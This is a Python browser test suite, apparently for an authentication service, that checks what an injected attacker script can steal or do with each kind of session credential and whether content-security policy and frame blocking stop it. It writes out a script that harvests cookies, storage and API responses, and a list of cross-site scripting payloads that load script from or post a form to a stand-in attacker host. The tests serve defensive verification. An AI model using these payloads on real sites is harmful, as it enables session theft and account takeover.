"""A script of an attacker in a page (requirement F3), in Chromium: what it can read and do with each carrier.

The page with the hole is the application's; our own pages are given a hole here and stop what is put into it.
"""

import re
from collections.abc import Iterator
from datetime import timedelta
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, Route

from gatepost.web.gateway import PATH as GATEWAY
from gatepost.web.routes import ROUTES
from tests.attacks.victims import (
    ACCESS,
    ADA,
    COOKIE,
    CSRF,
    DEVICE,
    HELD_IN,
    IN_COOKIES,
    PASSWORD,
    REFRESH,
    SEALED,
    Town,
    ask_by_page,
    cookies_in,
    open_town,
)

pytestmark = pytest.mark.needs("chromium")

READABLE = [f"/auth{route.path}" for route in ROUTES if route.method == "GET" and "{" not in route.path]
COLLECT = """async (paths) => {
  const said = [document.cookie, document.documentElement.outerHTML, name, location.href,
    JSON.stringify({...localStorage, ...sessionStorage, ...history.state}),
    JSON.stringify(await cookieStore.getAll()), JSON.stringify(await indexedDB.databases()),
    JSON.stringify(await caches.keys()), JSON.stringify(performance.getEntries())];
  const ask = async (path, options) => {
    const answer = await fetch(path, options);
    said.push(await answer.text(), ...[...answer.headers].map(pair => pair.join(': ')));
  };
  for (const path of paths) await ask(path, {cache: 'no-store'});
  const form = body => ({method: 'POST', body: new URLSearchParams(body)});
  await ask('/auth/oauth/token', form({grant_type: 'refresh_token'}));
  await ask('/auth/oauth/token', form({grant_type: 'refresh_token', refresh_token: ''}));
  await ask('/auth/api/session/data', {method: 'PATCH', body: '{"seen": true}',
                                       headers: {'content-type': 'application/json'}});
  return said.join('\\n');
}"""
BLOCKED = "frame-ancestors|X-Frame-Options"
PLACES = (COOKIE, SEALED, ACCESS, REFRESH)


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Town]:
    """The bank with Ada's account, a stranger's site and one browser."""
    with open_town(tmp_path_factory.mktemp("town")) as opened:
        opened.bank.account()
        yield opened


def inject(page: Page, town: Town, paths: list[str]) -> str:
    """Lead the victim to the page with the hole; all that the script in it could read."""
    script = f"<script>window.loot = ({COLLECT})({paths})</script>"
    page.goto(f"{town.bank.url}/hole?said={quote(script)}")
    return str(page.evaluate("window.loot"))


def secrets_in(page: Page, town: Town) -> list[str]:
    """Every credential in the victim's browser, and the parts of it that are secret by themselves."""
    held = [value for name, value in cookies_in(page, town.bank).items() if name != CSRF]
    return [*held, *(part for value in held for part in value.split(".") if len(part) >= 43)]


@pytest.mark.parametrize("carrier", IN_COOKIES)
def test_script_reads_no_credential_out_of_cookies(town: Town, carrier: str) -> None:
    """Cookies, storage, every page and every answer of ours with its headers: none of it holds the carrier."""
    with town.victim(carrier) as page:
        loot = inject(page, town, READABLE)
        secrets = secrets_in(page, town)
        assert len(secrets) >= len(HELD_IN[carrier])
        assert [secret for secret in secrets if secret in loot] == []
        # The search has teeth: what scripts may read was found.
        assert ADA in loot
        assert cookies_in(page, town.bank)[CSRF] in loot


@pytest.mark.parametrize("carrier", IN_COOKIES)
def test_nothing_that_a_script_carries_away_signs_anybody_in_elsewhere(town: Town, carrier: str) -> None:
    """Every text it found, tried from another machine as each cookie, as access token and as refresh token."""
    with town.victim(carrier) as page:
        loot = inject(page, town, READABLE)
        assert cookies_in(page, town.bank).keys() == {*HELD_IN[carrier], CSRF, DEVICE}
    tries = set(re.findall(r"[A-Za-z0-9_.-]{16,}", loot))
    assert len(tries) > 5
    for text in tries:
        for name in PLACES:
            assert town.bank.thief({name: text}).whoami() is None, (name, text)
        thief = town.bank.thief(bearer=text)
        thief.refresh = text
        assert (thief.whoami(), thief.renew()) == (None, 400), text


@pytest.mark.parametrize("path", ["/auth/api/sign-in", "/auth/api/sign-up"])
@pytest.mark.parametrize("carrier", IN_COOKIES)
def test_a_page_that_signs_in_by_cookie_is_told_no_credential(town: Town, carrier: str, path: str) -> None:
    """Also the script of the page that asks for the sign-in sees none of what the cookies hold."""
    email = ADA if path.endswith("in") else f"{carrier}@example.com"
    with town.person() as page:
        page.goto(f"{town.bank.url}/blank")
        body = {"email": email, "password": PASSWORD, "carrier": carrier}
        status, text = ask_by_page(page, "POST", path, body)
        assert status in {200, 201}
        assert [secret for secret in secrets_in(page, town) if secret in text] == []
        assert "tokens" not in text


def test_script_takes_the_tokens_that_a_page_keeps(town: Town) -> None:
    """The carrier `token` is for programs: what a page stores for its own script, any script carries away and uses."""
    email = town.bank.newcomer()
    with town.person() as page:
        page.goto(f"{town.bank.url}/blank")
        body = {"email": email, "password": PASSWORD, "carrier": "token"}
        page.evaluate(
            """async body => {
              const headers = {'content-type': 'application/json'};
              const answer = await fetch('/auth/api/sign-in', {method: 'POST', body: JSON.stringify(body), headers});
              const {tokens} = await answer.json();
              localStorage.access = tokens.access_token;
              localStorage.refresh = tokens.refresh_token;
            }""",
            body,
        )
        assert cookies_in(page, town.bank).keys() <= {DEVICE}
        inject(page, town, [])
        access, refresh = page.evaluate("[localStorage.access, localStorage.refresh]")
    thief = town.bank.thief(bearer=access)
    assert thief.whoami() == email
    thief.refresh = refresh
    assert (thief.renew(), thief.whoami()) == (200, email)


def test_script_gets_a_token_of_thirty_seconds_where_the_gateway_is_open_to_browsers(town: Town) -> None:
    """It is good elsewhere too, for 30 s and not longer than the session, and cannot be renewed."""
    email = town.bank.newcomer()
    with town.victim("cookie", email) as page:
        loot = inject(page, town, [f"/auth{GATEWAY}"])
        (token,) = set(re.findall(r"authorization: Bearer (\S+)", loot))
        thief = town.bank.thief(bearer=token)
        assert thief.whoami() == email
        town.bank.turn(timedelta(seconds=30))
        assert thief.whoami() is None
        (token,) = set(re.findall(r"authorization: Bearer (\S+)", inject(page, town, [f"/auth{GATEWAY}"])))
        thief = town.bank.thief(bearer=token)
        assert thief.whoami() == email
        assert ask_by_page(page, "POST", "/auth/api/sign-out")[0] == 204
        assert thief.whoami() is None


@pytest.mark.parametrize("carrier", IN_COOKIES)
def test_script_acts_as_the_person_until_the_session_ends(town: Town, carrier: str) -> None:
    """While the page is open it may do what the person may, save what asks for the password; then no more."""
    town.bank.transfers.clear()
    email = town.bank.newcomer()
    with town.victim(carrier, email) as page:
        inject(page, town, [])
        assert ask_by_page(page, "POST", "/transfer")[0] == 200
        assert town.bank.transfers == [email if carrier != "token-cookie" else town.bank.transfers[0]]
        guess = {"current": "not known to the script", "new": "seven quiet lamps in a row"}
        assert ask_by_page(page, "POST", "/auth/api/password", guess)[0] == 401
        assert ask_by_page(page, "DELETE", "/auth/api/sessions")[0] == 204
        assert ask_by_page(page, "POST", "/auth/api/sign-out")[0] == 204
        assert ask_by_page(page, "POST", "/transfer")[0] == 401
        assert len(town.bank.transfers) == 1


def payload(town: Town) -> str:
    """Everything that could run or fetch something, as somebody would put it into a page."""
    evil = town.stranger.url
    return f"""
      <script>window.pwned = ['inline']</script>
      <img src="data:," onerror="(window.pwned ??= []).push('handler')">
      <svg onload="(window.pwned ??= []).push('svg')"></svg>
      <a id="link" href="javascript:(window.pwned ??= []).push('link')">here</a>
      <script src="{evil}/script"></script><link rel="stylesheet" href="{evil}/style">
      <img src="{evil}/picture"><iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object>
      <style>body {{ background: url("{evil}/background") }}</style>
      <base href="{evil}/"><form id="form" method="post" action="{evil}/form"><input name="password" value="x"></form>
      <video src="{evil}/video"></video><link rel="manifest" href="{evil}/manifest">
    """


def open_with_hole(page: Page, town: Town, path: str, *, policy: bool) -> None:
    """Open a page of ours as it is served, with the payload in it; without its policy, to see what that stops."""
    jar = cookies_in(page, town.bank)
    answer = town.bank.thief(jar).ask("GET", path, headers={"accept": "text/html"})
    headers = {name: value for name, value in answer.headers.items() if name != "content-length"}
    assert headers["content-security-policy"]
    if not policy:
        del headers["content-security-policy"]
    html = answer.text.replace("</main>", payload(town) + "</main>")
    assert html != answer.text

    def fulfil(route: Route) -> None:
        route.fulfill(status=answer.status_code, headers=headers, body=html)

    page.route(f"{town.bank.url}{path}", fulfil)
    page.goto(f"{town.bank.url}{path}")
    page.locator("#link").evaluate("link => link.click()")
    page.locator("#form").evaluate("form => form.submit()")


@pytest.mark.parametrize(
    "path", ["/auth/", "/auth/sign-in", "/auth/sign-up", "/auth/account", "/auth/nothing-here"]
)
def test_policy_of_our_own_pages_stops_what_is_put_into_them(town: Town, path: str) -> None:
    """No inline script, no handler, no `javascript:` link runs, and nothing of another site is fetched or posted to."""
    town.stranger.publish("window.pwned = ['foreign']", path="/script", kind="text/javascript")
    with town.victim("cookie") as page:
        town.stranger.place.seen.clear()
        open_with_hole(page, town, path, policy=True)
        page.wait_for_timeout(150)
        assert page.url == f"{town.bank.url}{path}"
        assert page.evaluate("window.pwned") is None
        assert town.stranger.place.seen == []


def test_what_is_put_into_a_page_runs_where_there_is_no_policy(town: Town) -> None:
    """The test above has teeth: the same page without its policy runs script and hands the form to the stranger."""
    with town.victim("cookie") as page:
        town.stranger.place.seen.clear()
        with page.expect_navigation(url=f"{town.stranger.url}/form"):
            open_with_hole(page, town, "/auth/sign-in", policy=False)
        asked = {one.path for one in town.stranger.place.seen}
        assert {"/script", "/style", "/picture", "/frame", "/form"} <= asked


@pytest.mark.parametrize("path", ["/auth/sign-in", "/auth/account", "/auth/api/session"])
@pytest.mark.parametrize("place", ["stranger", "sibling"])
def test_nothing_of_ours_is_shown_in_somebody_else_s_frame(town: Town, place: str, path: str) -> None:
    """No clickjacking: the frame stays empty."""
    site = town.stranger if place == "stranger" else town.sibling
    with town.victim("cookie") as page:
        with page.expect_console_message(lambda told: bool(re.search(BLOCKED, told.text))):
            page.goto(site.publish(f'<iframe src="{town.bank.url}{path}"></iframe>'))
        assert not page.frames[1].url.startswith(town.bank.url)


def test_answers_of_the_api_are_inert_as_pages_and_as_parts_of_foreign_ones(town: Town) -> None:
    """Opened they run nothing; a foreign page can load them neither as script nor as picture nor read them."""
    email = town.bank.newcomer()
    with town.victim("cookie", email) as page:
        body = {"note": "<script>window.pwned = 1</script><img src=x onerror=window.pwned=1>"}
        assert ask_by_page(page, "PATCH", "/auth/api/session/data", body)[0] == 200
        page.goto(f"{town.bank.url}/auth/api/session")
        assert page.evaluate("[window.pwned, document.scripts.length]") == [None, 0]
        page.goto(town.stranger.publish("<title>Other</title>"))
        tried = page.evaluate(
            """async url => {
              const outcomes = [];
              for (const kind of ['script', 'img']) outcomes.push(await new Promise(told => {
                const part = document.createElement(kind);
                part.onload = () => told('loaded'); part.onerror = () => told('refused');
                part.src = url; document.body.append(part);
              }));
              for (const mode of ['cors', 'no-cors']) outcomes.push(
                await fetch(url, {mode, credentials: 'include'}).then(() => 'answered', () => 'refused'));
              return outcomes;
            }""",
            f"{town.bank.url}/auth/api/session",
        )
        assert tried == ["refused"] * 4
